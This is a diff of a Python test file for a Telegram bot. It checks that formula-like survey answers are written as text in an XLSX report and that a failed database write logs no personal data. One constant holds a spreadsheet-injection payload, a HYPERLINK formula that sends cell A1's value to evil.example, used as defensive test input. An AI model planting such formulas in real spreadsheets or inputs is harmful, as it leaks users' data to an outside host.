@@ -4,20 +4,24 @@ spreadsheet, never reaches a log, and does not outlive the retention period or a
 from __future__ import annotations
 
 import io
+import logging
 from datetime import datetime
 
 import openpyxl
-from sqlalchemy import update
+import pytest
+from sqlalchemy.exc import IntegrityError
 
-from bot.db import SessionFactory
+from bot.db import SessionFactory, create_engine, create_session_factory
 from bot.documents.activity_report import activity_report_xlsx
 from bot.models import SurveyResponse
 from bot.services.activity import activity_report_view
 from tests.after_factories import finished_training
 from tests.conftest import JAKARTA
+from tests.factories import make_participant
 
 PRINTED = datetime(2026, 12, 1, 9, 0, tzinfo=JAKARTA)
 FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'
+
 
 
 async def test_a_survey_answer_that_looks_like_a_formula_is_text_in_the_report(
@@ -40,3 +44,24 @@ async def test_a_survey_answer_that_looks_like_a_formula_is_text_in_the_report(
     quoted = [cell for cell in cells if cell.value == FORMULA]
     assert quoted and all(cell.data_type == "s" for cell in quoted)
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+
+
+async def test_a_failed_write_logs_no_personal_value(
+    db_url: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    engine = create_engine(db_url, pool_size=1)
+    log = logging.getLogger("bot.test.write")
+    try:
+        async with create_session_factory(engine)() as session:
+            for name in ("Siti Rahayu", "Bu Ratna Kusumawardani"):  # one Telegram id twice
+                await make_participant(
+                    session, 424242, full_name=name, business_name="Warung Ratna Jaya"
+                )
+    except IntegrityError:
+        with caplog.at_level(logging.ERROR):
+            log.exception("registration failed")
+    finally:
+        await engine.dispose()
+    assert "IntegrityError" in caplog.text
+    for value in ("Ratna", "Warung", "424242"):
+        assert value not in caplog.text
